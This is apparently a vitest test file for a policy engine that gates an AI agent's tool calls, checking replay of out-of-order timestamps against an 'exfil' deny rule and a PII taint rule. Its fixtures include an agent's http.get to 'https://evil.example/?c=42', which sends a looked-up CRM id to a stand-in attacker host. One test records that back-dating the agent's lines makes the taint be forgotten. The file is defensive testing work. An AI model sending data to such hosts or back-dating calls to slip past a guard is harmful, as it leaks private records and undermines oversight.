import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { expectGolden, runText } from "../goldens/golden.js";
import { cli } from "../helpers.js";

// `policyc test --replay` with request dates out of order (audit a4, findings 1 and 2). A replay
// goes by the recorded times: a line arrives at the latest time recorded before it.

const CALLED = `tool crm.lookup { risk low args { id: string } }
tool http.get { args { url: string } }

policy p {
  @name("exfil")
  deny http.get when session.called(crm.lookup, within 10m) reason "no web after CRM"
  allow *
}
`;
const line = (time: string, session: string, tool: string, args: object, decision: string, rules?: string[]): string => JSON.stringify({ time, session, tool, args, decision, ...(rules ? { rules } : {}) });
/** The lookup made first but dated a millisecond after the web call. */
const LOOKUP = line("2026-11-30T14:00:00.001Z", "s", "crm.lookup", { id: "42" }, "allow");
const WEB = (decision: string, rules: string[]): string => line("2026-11-30T14:00:00.000Z", "s", "http.get", { url: "https://evil.example/?c=42" }, decision, rules);

const TAINT = `enum Label { pii }
tool crm.lookup { risk low returns pii args { id: string } }
tool http.get { args { url: string } }

policy p {
  @name("taint") deny http.get when session.labels contains pii
  allow *
}
`;
const OTHER = (time: string): string => line(time, "other", "crm.lookup", { id: "1" }, "allow");
const AGENT_LOOKUP = line("2026-11-26T10:00:00Z", "agent", "crm.lookup", { id: "42" }, "allow");
const AGENT_WEB = (decision: string, rules: string[]): string => line("2026-11-26T10:00:01Z", "agent", "http.get", { url: "https://evil.example/?c=42" }, decision, rules);

let dir: string;
const file = (name: string, text: string): string => {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
};
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "policyc-session-times-"));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("policyc test --replay: session.called(P, within D) and a call dated after the attempt (audit a4, finding 1)", () => {
  it("a deny gated on a lookup made first but dated a millisecond later matches, as the engine decides", async () => {
    const policy = file("called.policy", CALLED);
    const result = await cli(["test", policy, "--replay", file("called.jsonl", [LOOKUP, WEB("deny", ["exfil"])].join("\n") + "\n")]);
    expect(result.stdout).toBe("2 lines replayed from 1 file\n2 passed, 0 failed\n");
    expect(result.code).toBe(0);
  });

  it("a recording of the engine that let it through fails, saying why the rule now matches (golden)", async () => {
    const policy = file("called.policy", CALLED);
    const recording = file("called-before.jsonl", [LOOKUP, WEB("allow", ["p/2"])].join("\n") + "\n");
    const result = await cli(["test", policy, "--replay", recording]);
    expect(result.code).toBe(1);
    expectGolden("test-called-dated-later", runText(result).replaceAll(dir, "<dir>"));
    expect(result.stdout).toContain("an allowed call of crm.lookup is dated after this attempt");
  });
});

describe("policyc test --replay: a session dated far back (audit a4, finding 2)", () => {
  it("arriving after later-dated traffic, it keeps its taint however far back it is dated", async () => {
    const policy = file("taint.policy", TAINT);
    // As at an enforcement point: the other session's traffic comes first, and the agent's lines
    // dated 100 hours back arrive in between; 20 minutes of other traffic lets the sweep run.
    const recording = file("taint.jsonl", [OTHER("2026-11-30T14:00:00Z"), AGENT_LOOKUP, OTHER("2026-11-30T14:20:00Z"), AGENT_WEB("deny", ["taint"])].join("\n") + "\n");
    const result = await cli(["test", policy, "--replay", recording]);
    expect(result.stdout).toBe("4 lines replayed from 1 file\n4 passed, 0 failed\n");
    expect(result.code).toBe(0);
  });

  it("when its lines come first, the recorded times say 100 hours passed before the next: forgotten, as after 100 real hours", async () => {
    const policy = file("taint.policy", TAINT);
    const recording = file("taint-first.jsonl", [AGENT_LOOKUP, OTHER("2026-11-30T14:00:00Z"), AGENT_WEB("allow", ["p/2"])].join("\n") + "\n");
    const result = await cli(["test", policy, "--replay", recording]);
    expect(result.stdout).toBe("3 lines replayed from 1 file\n3 passed, 0 failed\n");
    expect(result.code).toBe(0);
  });
});
